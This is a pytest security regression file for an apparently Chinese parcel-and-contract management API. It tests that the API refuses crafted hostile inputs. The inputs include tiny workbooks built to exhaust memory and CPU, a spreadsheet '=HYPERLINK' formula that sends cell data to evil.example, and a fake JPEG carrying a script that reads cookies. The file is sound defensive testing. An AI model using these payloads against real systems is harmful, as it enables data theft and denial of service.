"""Review of issue 13's features as an attacker: each test is a defect found, and stays fixed."""

from __future__ import annotations

import io
import zipfile
from typing import Any

import openpyxl
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import text
from sqlalchemy.orm import Session

from layers.base import REGISTRY
from tests import test_problems
from tests.accounts import bearer
from tests.test_contracts import _contract, _frame
from tests.test_excel import _book, _bytes, _column, _parcel, _store, _upload

PARCELS = REGISTRY["parcels"]
frame = test_problems.frame  # the sample community, grid and parcel (a fixture)
report = test_problems.report


def _sparse(last_cell: str) -> bytes:
    """Return a few-KB workbook: the parcel header, one row, and one stray value in LAST_CELL."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "台账"
    key = PARCELS.field(PARCELS.key_field)
    ws.append([key.zh, "名称"])
    ws.append(["370214001009010000001", "地块"])
    ws[last_cell] = "x"
    return _bytes(wb)


@pytest.mark.parametrize("last_cell", ["A1048576", "XFD1048576"])
def test_a_tiny_workbook_with_a_stray_cell_far_away_is_refused_before_it_is_unpacked(
    client: TestClient, last_cell: str
) -> None:
    # 5 KB: calamine makes the dense range of every cell up to the stray one (A: 2 M cells and
    # 300 MB; XFD: 17 G cells, and the Rust allocator aborts the whole server process).
    body = _sparse(last_cell)
    assert len(body) < 10_000
    answer = _upload(client, body)
    assert answer.status_code == 400, answer.text
    problem = answer.json()
    assert problem["code"] == "sheet_too_large"
    assert last_cell in problem["message"] and "台账" in problem["message"]


def test_a_sheet_as_wide_as_a_real_ledger_still_imports(client: TestClient, session: Session) -> None:
    # the bound is on cells that hold a value: a ledger's few columns pass, and a styled empty cell counts not
    wb = openpyxl.Workbook()
    ws = wb.active
    key = PARCELS.field(PARCELS.key_field)
    ws.append([key.zh, "名称", "备注"])
    ws["C5000"].number_format = "@"  # formatting only: no value
    body = _bytes(wb)
    with zipfile.ZipFile(io.BytesIO(body)) as zf:
        assert b"C5000" in zf.read("xl/worksheets/sheet1.xml")
    answer = _upload(client, body, import_mode="update")
    assert answer.status_code != 422 or answer.json()["code"] != "sheet_too_large", answer.text


def _merged(ranges: list[str], stray: str | None = None) -> bytes:
    """Return a small workbook with the parcel header whose sheet merges RANGES (overlapping: Excel would not)."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "台账"
    ws.append([PARCELS.field(PARCELS.key_field).zh, "名称"])
    if stray:
        ws[stray] = "x"
    src = zipfile.ZipFile(io.BytesIO(_bytes(wb)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                cells = "".join(f'<mergeCell ref="{r}"/>' for r in ranges)
                merged = f'</sheetData><mergeCells count="{len(ranges)}">{cells}</mergeCells>'
                data = data.replace(b"</sheetData>", merged.encode())
            dst.writestr(item, data)
    return out.getvalue()


@pytest.mark.parametrize(
    ("ranges", "stray"),
    [
        (["A3:XFD15"] * 3000, "XFD15"),  # 5 KB: 3000 × 15 × 16384 cells filled one by one, 65 s of the server's CPU
        (["A1:B1"] * 20_000, None),  # the reader keeps every range: a few MB of them would be gigabytes
    ],
)
def test_a_workbook_with_crafted_merged_ranges_is_refused_at_once(
    client: TestClient, ranges: list[str], stray: str | None
) -> None:
    body = _merged(ranges, stray)
    assert len(body) < 20_000
    answer = _upload(client, body)
    assert answer.status_code == 400, answer.text
    assert answer.json()["code"] == "sheet_too_many_merged"


def test_a_header_merged_over_two_rows_still_reads(client: TestClient, session: Session) -> None:
    _store(session, _parcel(1))
    key = PARCELS.field(PARCELS.key_field).zh
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["地块台账", None, None])
    ws.append([key, "名称", None])
    ws.append([None, None, None])
    ws.append([_parcel(1)["properties"][PARCELS.key_field], "新名称", None])
    ws.merge_cells("A1:C1")
    ws.merge_cells("A2:A3")
    ws.merge_cells("B2:B3")
    answer = _upload(client, _bytes(wb), import_mode="update")
    assert answer.status_code == 201, answer.text
    assert answer.json()["report"]["summary"]["changed"] == 1


def test_exported_text_starting_with_equals_stays_text_not_a_formula(client: TestClient, session: Session) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A3,"点击查看")'
    _store(session, _parcel(1, name=hostile, address="=1+1"))
    ws = _book(client.get("/api/layers/parcels/export.xlsx"))[PARCELS.zh]
    name = ws.cell(row=3, column=_column(ws, PARCELS.field("name").zh))
    address = ws.cell(row=3, column=_column(ws, PARCELS.field("address").zh))
    assert (name.value, name.data_type) == (hostile, "s")
    assert (address.value, address.data_type) == ("=1+1", "s")


def _contract_answer(client: TestClient, **changes: Any) -> Any:
    return client.post("/api/contracts", json=_contract(**changes), params={"as_of": "2025-03-01"})


@pytest.mark.parametrize(
    "changes",
    [
        {"start_date": "9990-01-01", "end_date": "9999-12-31"},  # a date past the calendar's end: was a 500
        {"start_date": "0001-01-01", "end_date": "9000-12-31", "cycle": "月"},  # 108 000 instalments per read
        {"terminated_on": "9999-12-31"},
        {"signed_on": "0001-01-01"},
    ],
)
def test_absurd_contract_dates_are_refused_with_a_field(
    client: TestClient, session: Session, changes: dict[str, str]
) -> None:
    _frame(session)
    before = session.execute(text("SELECT count(*) FROM contracts")).scalar()
    answer = _contract_answer(client, **changes)
    assert answer.status_code == 422, answer.text
    problem = answer.json()
    assert problem["code"] == "contract_dates"
    assert {p["where"]["field"] for p in problem["errors"]} & set(changes)
    assert session.execute(text("SELECT count(*) FROM contracts")).scalar() == before


def test_a_payment_on_an_absurd_date_is_refused(client: TestClient, session: Session) -> None:
    _frame(session)
    cid = _contract_answer(client).json()["id"]
    for day in ("0001-01-01", "9999-12-31"):
        answer = client.post(f"/api/contracts/{cid}/payments", json={"paid_on": day, "amount": "10"})
        assert answer.status_code == 422 and answer.json()["code"] == "payment_date", answer.text


@pytest.mark.parametrize(
    "geometry",
    [
        {"type": "Foo"},
        {"type": "Point", "coordinates": []},
        {"type": "Point", "coordinates": [1e308, 1]},
        {"type": "Polygon", "coordinates": [[[0, 0], [1, 1]]]},
        {"type": "Point", "coordinates": [0.5, 0.5]},  # a real place, far outside the deployment
    ],
)
def test_a_finding_with_a_broken_geometry_is_a_422_naming_the_field_not_a_500(
    client: TestClient, tokens: dict[str, str], frame: None, session: Session, geometry: dict[str, Any]
) -> None:
    before = session.execute(text("SELECT count(*) FROM problems")).scalar()
    answer = report(client, tokens, finding_id="0123456789abcdef", finding_geometry=geometry, lon=None, lat=None)
    assert answer.status_code == 422, answer.text
    assert answer.json()["where"]["field"] == "finding_geometry"
    assert session.execute(text("SELECT count(*) FROM problems")).scalar() == before
    assert report(client, tokens).status_code == 201  # the session is still usable: nothing was left aborted


@pytest.fixture
def twin(tokens: dict[str, str]) -> Any:
    """Yield the token of planner2's twin (same role, same street), committed for the test and removed after."""
    from sqlalchemy.orm import Session as PlainSession

    from layers import accounts
    from spatial.db import make_engine
    from tests.accounts import USERS
    from tests.conftest import owner_url

    role, area = USERS["planner2"]
    engine = make_engine(url=owner_url("guatu_test"))
    with PlainSession(engine) as s:
        token = accounts.add_token(s, accounts.add_user(s, "planner2twin", role, area, "x" * 12), "review")
        s.commit()
    yield token
    with engine.begin() as conn:
        conn.execute(
            text("DELETE FROM api_tokens WHERE user_id = (SELECT id FROM users WHERE username = 'planner2twin')")
        )
        conn.execute(text("DELETE FROM users WHERE username = 'planner2twin'"))
    engine.dispose()


def test_the_cockpit_never_shows_one_users_assigned_problems_to_another_of_the_same_area(
    client: TestClient, tokens: dict[str, str], frame: None, twin: str
) -> None:
    # an assignee sees their problem even outside their area; planner2 (another street) may no longer be
    # assigned one of this street at all, and whoever has an assignment gets cockpit figures of their own
    pid = report(client, tokens).json()["id"]

    def assign(username: str) -> Any:
        body = {"action": "交办", "assignee": username, "deadline": "2030-01-01"}
        return client.post(f"/api/problems/{pid}/events", json=body, headers=bearer(tokens["planner"]))

    refused = assign("planner2")
    assert refused.status_code == 422 and refused.json()["code"] == "assignee_outside_area"

    def open_for(token: str) -> int:
        return int(client.get("/api/cockpit", headers=bearer(token)).json()["problems"]["open"])

    assert open_for(twin) == 0 and open_for(tokens["planner2"]) == 0
    assert assign("gridman9").status_code == 201
    assert open_for(tokens["gridman9"]) == 1
    kept = client.app.state.cockpit_cache.kept  # type: ignore[attr-defined]
    assert any(key.endswith("|gridman9") for key in kept)  # keyed by the person, never shared by area alone
    assert open_for(twin) == 0


def test_an_xlsx_dry_run_never_confirms_a_guessed_personal_value(
    client: TestClient, session: Session, tokens: dict[str, str]
) -> None:
    from layers import features
    from layers.base import mask_text
    from tests.samples import sample

    zones = REGISTRY["zones"]
    for layer_id in ("divisions", "grids", "parcels", "zones"):
        features.create_feature(session, REGISTRY[layer_id], sample(layer_id))
    personal = next(f for f in zones.fields if f.personal)
    real = sample("zones")["properties"][personal.name]
    surveyor = bearer(tokens["surveyor9"])  # may upload zones, sees personal values masked
    answers = {}
    for guess in (real, real + "甲"):
        wb = _book(client.get("/api/layers/zones/export.xlsx", headers=surveyor))
        ws = wb[zones.zh]
        ws.cell(row=3, column=_column(ws, personal.zh), value=guess)
        answer = _upload(client, _bytes(wb), "zones", import_mode="update", dry_run="true", headers=surveyor)
        assert answer.status_code in (200, 201), answer.text
        entry = answer.json()["report"]["features"][0]
        before, after = entry["changes"][personal.name]
        assert after == mask_text(guess)  # what was sent, masked: nothing the sender did not know
        answers[guess] = (entry["status"], entry.get("changed_fields"), before)
        assert real not in answer.text
    assert answers[real] == answers[real + "甲"]  # the right guess is said exactly as a wrong one


@pytest.mark.parametrize(
    "body",
    [
        b"\xff\xd8\xff<html><script>alert(document.cookie)</script></html>",  # a JPEG's first bytes, then a page
        b"\x89PNG\r\n\x1a\n" + b"\x00" * 64,  # a PNG signature and nothing of a picture
        b"RIFF\x10\x00\x00\x00WEBPVP8 " + b"\x00" * 16,
    ],
)
def test_a_photo_that_only_starts_like_an_image_is_refused(
    client: TestClient, tokens: dict[str, str], session: Session, body: bytes
) -> None:
    before = session.execute(text("SELECT count(*) FROM problem_photos")).scalar()
    sent = client.post(
        "/api/problems/photos", content=body, headers=bearer(tokens["gridman9"]) | {"Content-Type": "image/jpeg"}
    )
    assert sent.status_code == 422, sent.text
    assert sent.json()["code"] == "photo_type"
    assert session.execute(text("SELECT count(*) FROM problem_photos")).scalar() == before


def test_a_real_photo_is_still_taken(client: TestClient, tokens: dict[str, str]) -> None:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 30, 30)).save(out, "JPEG")
    sent = client.post(
        "/api/problems/photos",
        content=out.getvalue(),
        headers=bearer(tokens["gridman9"]) | {"Content-Type": "image/jpeg"},
    )
    assert sent.status_code == 201, sent.text
    assert sent.json()["content_type"] == "image/jpeg"


@pytest.mark.parametrize("deadline", ["0001-01-01", "9999-12-31"])
def test_an_absurd_deadline_is_refused_and_the_problem_stays_registered(
    client: TestClient, tokens: dict[str, str], frame: None, deadline: str
) -> None:
    pid = report(client, tokens).json()["id"]
    answer = client.post(
        f"/api/problems/{pid}/events",
        json={"action": "交办", "assignee": "gridman9", "deadline": deadline},
        headers=bearer(tokens["planner"]),
    )
    assert answer.status_code == 422, answer.text
    assert answer.json()["code"] == "deadline_invalid" and answer.json()["where"]["field"] == "deadline"
    assert client.get(f"/api/problems/{pid}").json()["status"] == "已登记"
